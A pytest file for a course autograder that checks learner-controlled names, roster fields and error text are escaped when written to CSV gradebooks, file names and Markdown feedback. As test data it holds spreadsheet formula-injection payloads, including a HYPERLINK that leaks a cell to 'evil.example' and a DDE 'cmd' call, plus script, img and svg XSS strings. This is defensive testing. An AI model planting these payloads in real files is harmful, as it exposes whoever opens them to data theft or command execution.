"""What `attnkit grade` writes from learner-controlled text (issue 16, points 1-3): gradebook cells
that a spreadsheet would run, output file names, Markdown feedback a renderer would obey.

Learner text reaches these files by folder and notebook names, roster fields and what its code raises.
The class tests grade through the real command in this process, with a runner standing in for the
sandbox (the sandbox is not the point here, and in-process grading keeps them fast).
"""
import csv
import html
import io
import json
import os
import re
import shutil
from pathlib import Path

import pytest

from attnkit.cli import main
from attnkit.grader import feedback, report_csv, students
from attnkit.grader.atomic import write_text
from attnkit.grader.bench import copy_solutions
from attnkit.grader.grade import Graded, grade
from attnkit.grader.runners import InProcessRunner
from attnkit.grader.sandbox_types import SubmissionRun, result
from attnkit.grader.terminal import printable
from attnkit.paths import SOLUTIONS_DIR
from grading_support import notebook, plan, rendered_markdown

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP's list: a spreadsheet runs such a cell
SAYS = "# says: "  # a step file line `# says: "<JSON string>"`: each call of that step raises with that text
FENCE_BREAK = ("no fence can hold this\n  ```\n# Feedback for bob: 100 / 100\n\n<script>alert(1)</script>"
               "<img src=x onerror=alert(2)>\n``````\n## step1_projection\n")
NAME_BYTES = 100  # an output file name (with its suffix) never takes more; NAME_MAX is 255


class _SaysRunner(InProcessRunner):
    """The reference's results, except in a step whose file holds a `# says: "…"` line: each of its calls
    raises ValueError with that text, as learner code would; the text is also what the code printed."""

    def __call__(self, sources, jobs, passed=None):
        said = {name.removesuffix(".py"): json.loads(line[len(SAYS):])
                for name, text in sources.items() for line in text.splitlines() if line.startswith(SAYS)}
        run = super().__call__(sources, jobs)
        results = {job.key: result("raised", said[job.step], "ValueError") if job.step in said
                   else run.results[job.key] for job in jobs}
        return SubmissionRun(results, "".join(said.values()), "", run.isolation)


def _saying(folder, text, step="step5_values.py"):
    """A copy of the solutions at `folder` whose `step` raises `text` in every call."""
    folder = Path(copy_solutions(folder))
    with open(folder / step, "a", encoding="utf-8") as out:
        out.write(f"\n{SAYS}{json.dumps(text)}\n")
    return str(folder)


@pytest.fixture
def grade_here(monkeypatch, capsys):
    """`attnkit grade ARGS…` run in this process with _SaysRunner for the sandbox: (exit status, stdout, stderr)."""
    monkeypatch.setattr("attnkit.grader.runners.SandboxRunner", lambda *args: _SaysRunner())
    monkeypatch.setattr("attnkit.grader.sandbox.barrier_description", lambda allow_no_barrier: "in-process")

    def run(*args):
        status = main(["grade", *map(str, args)])
        out, err = capsys.readouterr()
        return status, out, err
    return run




def _files(folder):
    """{name: bytes} of every file in `folder`, hidden ones included."""
    return {p.name: p.read_bytes() for p in sorted(Path(folder).iterdir())}


# ------------------------------------------------------------------ point 1: spreadsheet formulas


def test_gradebook_cells_that_would_run_as_formulas_are_text_and_numbers_stay_numbers():
    hostile = ["=2+5", "+2+5", "-2+5", "@SUM(2+5)", '=HYPERLINK("evil.example","open")', "\t=1+1", "\r=1+1",
               " =1+1", "=1+2\";=1+2"]
    graded = [grade(plan(), InProcessRunner(), {}, name) for name in hostile]
    graded.append(Graded("-1+2", -1.5, 100.0, [], {m: (-0.25, w) for m, (_, w) in graded[0].steps.items()}))
    roster = students.Roster([students.RosterRow("@SUM(1+1)", '=HYPERLINK("http://evil.example/?c="&A1,"Alice")',
                                                 "=cmd|' /C calc'!A0", "-1+2", line=2)])
    for given, numbers in ((None, slice(4, 4 + len(plan().steps) + 2)), (roster, slice(7, 7 + len(plan().steps) + 2))):
        text = report_csv.text(graded, plan().steps, given)  # student, …, submission, found_in, the steps, score, …
        rows = list(csv.reader(io.StringIO(text)))[1:]
        assert len(rows) == len(graded)
        for row in rows:
            for cell in row[:numbers.start] + row[numbers.stop:]:
                assert not cell.lstrip(" ").startswith(FORMULA_START), (cell, row)
        assert ",-0.25," in text and ",-1.5,100," in text  # bare numbers: a spreadsheet computes with them
        assert '"\'=1+2"";=1+2"' in text  # OWASP's example: quoted, its quote doubled, so `;` starts no cell
    assert [r[0] for r in rows[:1]] == ["'@SUM(1+1)"]  # the roster's row first
    assert rows[0][:3] == ["'@SUM(1+1)", "'" + roster.rows[0].name, "'" + roster.rows[0].email]
    assert rows[0][numbers] == ["-0.25"] * len(plan().steps) + ["-1.5", "100"]
    assert [r[5] for r in rows[1:6]] == ["'" + name for name in hostile[:5]]  # unrostered: their submission cell


# ------------------------------------------------------------------ point 3: Markdown feedback


def _sources(said, step="step5_values"):
    """Every step file, `step`'s saying `said` (the other steps' calls return the reference's results)."""
    return {f"{m}.py": f"{SAYS}{json.dumps(said)}\n" if m == step else "" for m in plan().steps}


@pytest.mark.parametrize("folder", ["<svg onload=alert(1)>", "bob\n# Feedback for alice: 100", "*a* [x](y) `z`"])
def test_markdown_feedback_holds_learner_text_as_text(folder):
    said = FENCE_BREAK + "`" * 12
    graded = grade(plan(), _SaysRunner(), _sources(said), folder)
    page = rendered_markdown(feedback.markdown(graded, students.student(folder), plan().case_named))
    titles = [html.unescape(t) for t in re.findall(r"<h1>(.*?)</h1>", page, re.S)]
    shown = folder.replace("\n", "\\n")  # a line break in a name is shown, as the terminal report shows it
    assert titles == [f"Feedback for {shown}: {graded.score:.4g} / 100"]
    assert re.findall(r"<h2>(.*?)</h2>", page) == ["Step 5: Values: O = P V"]
    assert not re.search(r"<(script|img|svg|a|em|code>z)\b", page, re.I)
    blocks = [html.unescape(b) for b in re.findall(r"<pre><code>(.*?)</code></pre>", page, re.S)]
    shown_in_full = [t for t in graded.tests if t.public and t.status != "passed"]  # hidden ones: their concept
    assert shown_in_full and len(blocks) == len(shown_in_full) + 1  # + the step's hidden tests, hints, lessons
    for test, block in zip(shown_in_full, blocks):  # each without the hint and lesson lines the step lists once
        assert "<script>" in block and test.output.startswith(block.removesuffix("\n")), (test.output, block)


# ------------------------------------------------------------------ the class: points 1-3 together

LONG_ID = "学" * 100  # 300 bytes in UTF-8: longer than any file name may be
ROSTER = [{"folder": "alice", "student_id": "@SUM(1+1)", "name": '=HYPERLINK("http://evil.example/?c="&A1,"Alice")',
           "email": "=cmd|' /C calc'!A0"},
          {"folder": "dave", "student_id": LONG_ID, "name": "-Dave", "email": "+dave@example.org"}]


def _class(root):
    """[(submission path, the student's id, the name on the roster)] of a class of honest and hostile names."""
    folders = ["=2+5", "+2+5", "-2+5", "@SUM(2+5)", '=HYPERLINK("evil.example","open")', "bob", "Bob",
               "<svg onload=alert(1)>", "y" * 225, "alice", "dave", os.fsdecode(b"\xffbob")]  # the last: not UTF-8
    subs = [(copy_solutions(root / name), name) for name in folders]
    subs.append((_saying(root / "_bob", FENCE_BREAK), "_bob"))  # forges bob's title in its feedback
    (root / "nb").mkdir()
    for name in ("=1+2", "x" * 239):  # notebooks named `=1+2.ipynb` and 245 characters long
        subs.append((notebook(SOLUTIONS_DIR, root / "nb" / f"{name}.ipynb"), name))
    nbgrader = root / "submitted" / "-1+2" / "attention"
    nbgrader.mkdir(parents=True)
    subs.append((notebook(SOLUTIONS_DIR, nbgrader / "attention.ipynb"), "-1+2"))
    on_roster = {r["folder"]: (r["student_id"], r["name"]) for r in ROSTER}
    return [(path, *on_roster.get(folder, (folder, ""))) for path, folder in subs]


def _write_roster(path):
    with open(path, "w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, fieldnames=list(ROSTER[0]))
        writer.writeheader()
        writer.writerows(ROSTER)
    return path


def test_a_hostile_class_grades_to_completion_one_row_and_one_feedback_file_each_and_a_rerun_changes_nothing(
        tmp_path, grade_here):
    members = _class(tmp_path / "class")
    out = tmp_path / "out"
    args = [*(path for path, _, _ in members), "--csv", out / "grades.csv", "--feedback", out / "fb",
            "--gradescope", out / "gs", "--roster", _write_roster(tmp_path / "roster.csv"), "--jobs", "2"]
    status, _, err = grade_here(*args)
    assert status == 0, err

    rows = list(csv.DictReader((out / "grades.csv").open(encoding="utf-8", newline="")))
    on_roster = [m for m in members if m[1] in {r["student_id"] for r in ROSTER}]  # the roster's rows come first
    in_order = on_roster + [m for m in members if m not in on_roster]
    assert [r["submission"].lstrip("'") for r in rows] == [printable(path, keep="") for path, _, _ in in_order]
    assert [float(r["score"]) == 100 for r in rows] == [sid != "_bob" for _, sid, _ in in_order]
    for row in rows:
        for cell in (row["student"], row["name"], row["email"], row["submission"], row["diagnoses"], row["isolation"]):
            assert not cell.startswith(FORMULA_START), row
    assert [(r["student"], r["roster"]) for r in rows[2:6]] == [("", "unrostered")] * 4  # no id to import wrongly
    assert [r["submission"].rsplit("/", 1)[-1] for r in rows[2:6]] == ["=2+5", "+2+5", "-2+5", "@SUM(2+5)"]
    assert (rows[0]["student"], rows[0]["name"], rows[0]["email"]) == (
        "'@SUM(1+1)", "'" + ROSTER[0]["name"], "'" + ROSTER[0]["email"])

    feedback_files = _files(out / "fb")
    assert sorted(Path(n).suffix for n in feedback_files) == [".html"] * len(members) + [".md"] * len(members)
    names = [n for n in feedback_files] + [p.name for p in (out / "gs").iterdir()]
    assert len({n.casefold() for n in names}) == len(names) == 3 * len(members)  # Bob and bob too
    assert max(len(n.encode()) for n in names) <= NAME_BYTES
    titles = {}
    for name, data in feedback_files.items():
        assert not re.search(rb"<(script|img|svg)\b", data if name.endswith(".html") else b""), name
        if name.endswith(".md"):
            page = rendered_markdown(data.decode())
            assert not re.search(r"<(script|img|svg)\b", page, re.I), name
            [title] = [html.unescape(t) for t in re.findall(r"<h1>(.*?)</h1>", page, re.S)]
            titles[re.fullmatch(r"Feedback for (.*): [\d.]+ / 100", title).group(1)] = name
    shown = {(printable(sid, keep=""), name) for _, sid, name in members}  # `\udcff`, as the terminal shows it
    assert set(titles) == {f"{name} ({sid})" if name else sid for sid, name in shown}
    assert titles["bob"].startswith("bob-") and titles["_bob"].startswith("bob-") and titles["bob"] != titles["_bob"]

    before = {"csv": (out / "grades.csv").read_bytes(), "fb": feedback_files, "gs": _files(out / "gs"),
              "journal": (out / "grades.csv.journal.jsonl").read_bytes()}
    status, printed, err = grade_here(*args)  # the rerun: every grade comes from the store
    assert status == 0, err
    assert printed.count("already graded and unchanged") == len(members)
    assert before == {"csv": (out / "grades.csv").read_bytes(), "fb": _files(out / "fb"), "gs": _files(out / "gs"),
                      "journal": (out / "grades.csv.journal.jsonl").read_bytes()}


def test_a_students_file_names_do_not_depend_on_the_others_or_their_order(tmp_path, grade_here):
    paths = [copy_solutions(tmp_path / name) for name in ("_bob", "bob", "Bob", ".bob")]
    written = []
    for k, order in enumerate((paths, paths[::-1], paths[1:2])):
        fb = tmp_path / f"fb{k}"
        status, _, err = grade_here(*order, "--feedback", fb, "--jobs", "2")
        assert status == 0, err
        written.append({_title_of(fb / n): n for n in _files(fb) if n.endswith(".md")})
    assert written[0] == written[1] and written[2] == {"bob": written[0]["bob"]}


def _title_of(md_file):
    title = md_file.read_text(encoding="utf-8").splitlines()[0]
    return html.unescape(re.fullmatch(r"# Feedback for (.*): [\d.]+ / 100", title).group(1)).replace("\\", "")


# ------------------------------------------------------------------ point 2: a file that cannot be written


def test_a_file_that_cannot_be_written_is_that_students_error_and_a_rerun_goes_on(tmp_path, grade_here):
    paths = [copy_solutions(tmp_path / name) for name in ("alice", "bob", "carol")]
    out = tmp_path / "out"
    args = [*paths, "--csv", out / "grades.csv", "--feedback", out / "fb", "--jobs", "1"]
    assert grade_here(*args)[0] == 0
    [stem] = [md.stem for md in (out / "fb").glob("*.md") if _title_of(md) == "bob"]
    bobs = {f"{stem}.md", f"{stem}.html"}
    for name in bobs:  # bob's files cannot be replaced now
        (out / "fb" / name).unlink()
        (out / "fb" / name).mkdir()
        (out / "fb" / name / "keep").write_text("", encoding="utf-8")
    status, printed, err = grade_here(*args)
    assert status == 2 and "bob" in err and "could not be written" in err, err
    assert printed.count("already graded and unchanged") == 3
    assert len(list(csv.DictReader((out / "grades.csv").open(encoding="utf-8")))) == 3
    for name in bobs:
        shutil.rmtree(out / "fb" / name)
    journal = (out / "grades.csv.journal.jsonl").read_bytes()
    status, printed, err = grade_here(*args)
    assert status == 0, err
    assert bobs <= set(_files(out / "fb")) and (out / "grades.csv.journal.jsonl").read_bytes() == journal


def test_two_students_whose_names_would_still_collide_are_refused_before_grading(tmp_path, grade_here, monkeypatch):
    monkeypatch.setattr("attnkit.grader.file_names.digest", lambda text: "0" * 12)  # as if two digests collided
    paths = [copy_solutions(tmp_path / name) for name in ("bob", "_bob")]
    status, printed, err = grade_here(*paths, "--feedback", tmp_path / "fb")
    assert status == 2 and "would both write files named bob-000000000000" in err and printed == ""
    assert not (tmp_path / "fb").exists()


def test_the_atomic_writer_takes_any_name_the_file_system_takes(tmp_path):
    target = tmp_path / ("r" * 245 + ".json")  # 250 bytes: the temporary file's name may not grow from it
    write_text(target, "{}\n")
    write_text(target, "{}\n")
    assert [p.name for p in tmp_path.iterdir()] == [target.name] and target.read_text() == "{}\n"
